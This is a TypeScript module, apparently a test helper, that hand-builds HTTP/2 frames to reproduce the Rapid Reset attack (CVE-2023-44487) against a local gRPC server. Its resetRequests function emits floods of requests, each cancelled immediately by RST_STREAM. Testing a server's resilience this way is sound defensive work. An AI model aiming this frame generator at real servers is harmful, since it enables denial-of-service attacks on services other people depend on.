/** HTTP/2 as no client library sends it: requests that are reset as soon as they are sent (CVE-2023-44487). */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const frameTypes = { headers: 1, reset: 3, settings: 4 };
const endHeaders = 4;
const endStream = 1;
const cancel = Buffer.from([0, 0, 0, 8]);

export function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header of HPACK's static table with a value, not indexed (RFC 7541 section 6.2.2). */
function literal(index: number, value: string): Buffer {
  const name = index < 15 ? [index] : [15, index - 15];
  return Buffer.concat([Buffer.from([...name, value.length]), Buffer.from(value)]);
}

/** A POST of a gRPC call, whose message never comes unless the request ends with its headers. */
export function callFrame(
  stream: number,
  path: string,
  isOver = false,
  contentType = "application/grpc+proto",
): Buffer {
  // From the static table: :method POST, :scheme http; then :path, :authority, content-type.
  const block = Buffer.concat([
    Buffer.from([0x83, 0x86]),
    literal(4, path),
    literal(1, "localhost"),
    literal(31, contentType),
  ]);
  return frame(frameTypes.headers, isOver ? endHeaders | endStream : endHeaders, stream, block);
}

/** A connection that has begun HTTP/2. What comes back is discarded. */
export async function beginHttp2(port: number, isSecure: boolean): Promise<Socket> {
  const socket = isSecure
    ? connectTls({ port, host: "127.0.0.1", ALPNProtocols: ["h2"], rejectUnauthorized: false })
    : connect(port, "127.0.0.1");
  socket.on("error", () => undefined);
  await once(socket, isSecure ? "secureConnect" : "connect");
  socket.resume();
  socket.write(preface);
  socket.write(frame(frameTypes.settings, 0, 0, Buffer.alloc(0)));
  return socket;
}

/** Requests, each with its reset behind it. */
export function resetRequests(count: number, path: string): Buffer {
  const frames = Array.from({ length: count }, (_, n) => [
    callFrame(2 * n + 1, path),
    frame(frameTypes.reset, 0, 2 * n + 1, cancel),
  ]);
  return Buffer.concat(frames.flat());
}
